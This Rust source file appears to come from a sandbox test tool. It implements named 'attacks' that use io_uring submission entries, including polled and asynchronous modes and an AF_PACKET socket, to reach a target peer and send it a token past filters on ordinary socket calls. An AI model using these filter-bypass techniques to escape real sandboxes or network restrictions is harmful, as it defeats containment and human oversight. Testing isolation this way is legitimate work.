//! io_uring: the same operations, asked for in shared memory instead of by calls.

use crate::{
    Target,
    call::{Address, Socket, check},
};
use std::{
    io,
    os::fd::{AsRawFd, FromRawFd, OwnedFd, RawFd},
    ptr,
    sync::atomic::{AtomicU32, Ordering},
};

const OFFSET_SUBMISSIONS: i64 = 0;
const OFFSET_ENTRIES: i64 = 0x1000_0000;
const SETUP_SQPOLL: u32 = 2;
const ENTER_GETEVENTS: u32 = 1;
const ENTER_WAKEUP: u32 = 2;

const ACCEPT: u8 = 13;
const CONNECT: u8 = 16;
const WRITE: u8 = 23;
const SEND: u8 = 26;
const SOCKET: u8 = 45;
const SEND_ZERO_COPY: u8 = 47;
const ASYNC: u8 = 1 << 4;

/// The attacks of this file.
pub fn act(name: &str, target: &Target) -> Option<io::Result<()>> {
    let result = match name {
        "ring-connect" => Ring::new(0).and_then(|ring| connect(&ring, target, 0)),
        // by a thread of the kernel's that has no other work
        "ring-connect-asynchronously" => Ring::new(0).and_then(|ring| connect(&ring, target, ASYNC)),
        // by a thread of the kernel's that looks for work by itself
        "ring-connect-polled" => Ring::new(SETUP_SQPOLL).and_then(|ring| connect(&ring, target, 0)),
        "ring-send-to" => Ring::new(0).and_then(|ring| send_to(&ring, target, 0)),
        "ring-send-to-polled" => Ring::new(SETUP_SQPOLL).and_then(|ring| send_to(&ring, target, 0)),
        "ring-send-to-asynchronously" => Ring::new(0).and_then(|ring| send_to(&ring, target, ASYNC)),
        "ring-socket" => Ring::new(0).and_then(|ring| socket(&ring, target)),
        "ring-packet-socket" => Ring::new(0).and_then(|ring| packet(&ring, target)),
        _ => return None,
    };
    Some(result)
}

fn connect(ring: &Ring, target: &Target, flags: u8) -> io::Result<()> {
    let socket = Socket::stream(target.peer)?;
    ring.connect(&socket, &target.peer.into(), flags)?;
    ring.write(&socket, &target.token(), flags)
}

fn send_to(ring: &Ring, target: &Target, flags: u8) -> io::Result<()> {
    let socket = Socket::datagram(target.peer)?;
    let (bytes, to) = (target.token(), Address::from(target.peer));
    let mut entry = Entry { operation: SEND_ZERO_COPY, flags, socket: socket.number(), ..Entry::default() };
    entry.memory = bytes.as_ptr() as u64;
    entry.length = bytes.len() as u32;
    // the address, and its length in the upper half of a word
    entry.offset = to.0.as_ptr() as u64;
    entry.file_index = to.0.len() as u32;
    ring.run(entry).map(drop)
}

fn socket(ring: &Ring, target: &Target) -> io::Result<()> {
    let socket = ring.socket(target.family(), libc::SOCK_DGRAM, 0)?;
    socket.send_to(&target.token(), 0, target.peer)
}

/// A socket of a family that `socket()` is refused.
fn packet(ring: &Ring, target: &Target) -> io::Result<()> {
    let socket = ring.socket(libc::AF_PACKET, libc::SOCK_DGRAM, (libc::ETH_P_IP as u16).to_be().into())?;
    crate::link::to_everybody(&socket, target)
}

/// An entry of the submission queue, as far as it is used here.
#[repr(C)]
#[derive(Clone, Copy, Debug, Default)]
struct Entry {
    operation: u8,
    flags: u8,
    priority: u16,
    socket: RawFd,
    offset: u64,
    memory: u64,
    length: u32,
    operation_flags: u32,
    data: u64,
    buffer: u16,
    personality: u16,
    file_index: u32,
    rest: [u64; 2],
}

#[repr(C)]
#[derive(Default)]
struct Parameters {
    submissions: u32,
    completions: u32,
    flags: u32,
    idle: [u32; 2],
    features: u32,
    workers: u32,
    reserved: [u32; 3],
    // head, tail, mask, entries, flags, dropped, array
    submission: [u32; 7],
    submission_reserved: [u32; 3],
    // head, tail, mask, entries, overflow, completions
    completion: [u32; 6],
    completion_reserved: [u32; 4],
}

/// A ring with one operation at a time.
pub struct Ring {
    ring: OwnedFd,
    parameters: Parameters,
    memory: *mut u8,
    entries: *mut Entry,
}

impl Ring {
    /// Makes a ring.
    pub fn new(flags: u32) -> io::Result<Self> {
        let mut parameters = Parameters { flags, ..Parameters::default() };
        parameters.idle[1] = 500;
        // SAFETY: the structure is the kernel's, of 120 bytes.
        let number = check(unsafe { libc::syscall(libc::SYS_io_uring_setup, 4, &raw mut parameters) })?;
        // SAFETY: the descriptor is new.
        let ring = unsafe { OwnedFd::from_raw_fd(number as RawFd) };
        let map = |offset: i64| {
            let (protection, flags) = (libc::PROT_READ | libc::PROT_WRITE, libc::MAP_SHARED);
            // SAFETY: new memory; four entries take less than a page.
            let memory = unsafe { libc::mmap(ptr::null_mut(), 4096, protection, flags, ring.as_raw_fd(), offset) };
            if memory == libc::MAP_FAILED { Err(io::Error::last_os_error()) } else { Ok(memory) }
        };
        // both queues are in one piece
        let (memory, entries) = (map(OFFSET_SUBMISSIONS)?.cast(), map(OFFSET_ENTRIES)?.cast());
        Ok(Self { ring, parameters, memory, entries })
    }

    fn word(&self, offset: u32) -> &AtomicU32 {
        // SAFETY: the kernel gave the offset of an aligned word in this memory, which lives as long as the process.
        unsafe { &*self.memory.add(offset as usize).cast() }
    }

    /// Has one operation done; what it returns.
    fn run(&self, entry: Entry) -> io::Result<i32> {
        let [_, tail, mask, _, _, _, array] = self.parameters.submission;
        let place = self.word(tail).load(Ordering::Acquire);
        let index = place & self.word(mask).load(Ordering::Relaxed);
        // SAFETY: the mask keeps the index in bounds.
        unsafe { self.entries.add(index as usize).write_volatile(entry) };
        self.word(array + 4 * index).store(index, Ordering::Relaxed);
        self.word(tail).store(place + 1, Ordering::Release);
        let polled = self.parameters.flags & SETUP_SQPOLL != 0;
        let (submit, wake) = if polled { (0, ENTER_WAKEUP) } else { (1, 0) };
        let none = ptr::null::<u8>();
        let flags = ENTER_GETEVENTS | wake;
        // SAFETY: the entry points to memory that lives until it is done.
        check(unsafe { libc::syscall(libc::SYS_io_uring_enter, self.ring.as_raw_fd(), submit, 1, flags, none, 0) })?;
        let [head, tail, mask, _, _, completions] = self.parameters.completion;
        let place = self.word(head).load(Ordering::Acquire);
        if place == self.word(tail).load(Ordering::Acquire) {
            return Err(io::ErrorKind::Interrupted.into());
        }
        let index = place & self.word(mask).load(Ordering::Relaxed);
        // an entry has 16 bytes: what it was for, the result, flags
        let result = self.word(completions + 16 * index + 8).load(Ordering::Acquire).cast_signed();
        self.word(head).store(place + 1, Ordering::Release);
        if result < 0 { Err(io::Error::from_raw_os_error(-result)) } else { Ok(result) }
    }

    fn connect(&self, socket: &Socket, to: &Address, flags: u8) -> io::Result<()> {
        let mut entry = Entry { operation: CONNECT, flags, socket: socket.number(), ..Entry::default() };
        entry.memory = to.0.as_ptr() as u64;
        entry.offset = to.0.len() as u64;
        self.run(entry).map(drop)
    }

    fn write(&self, socket: &Socket, bytes: &[u8], flags: u8) -> io::Result<()> {
        for operation in [WRITE, SEND] {
            let mut entry = Entry { operation, flags, socket: socket.number(), ..Entry::default() };
            entry.memory = bytes.as_ptr() as u64;
            entry.length = bytes.len() as u32;
            self.run(entry)?;
        }
        Ok(())
    }

    fn socket(&self, family: i32, kind: i32, protocol: i32) -> io::Result<Socket> {
        let entry = Entry {
            operation: SOCKET,
            socket: family,
            offset: kind as u64,
            length: protocol as u32,
            ..Entry::default()
        };
        let number = self.run(entry)?;
        // SAFETY: the descriptor is new.
        Ok(unsafe { OwnedFd::from_raw_fd(number) }.into())
    }

    /// Waits for a connection.
    pub fn accept(&self, listening: &Socket) -> io::Result<Socket> {
        let number = self.run(Entry { operation: ACCEPT, socket: listening.number(), ..Entry::default() })?;
        // SAFETY: the descriptor is new.
        Ok(unsafe { OwnedFd::from_raw_fd(number) }.into())
    }
}
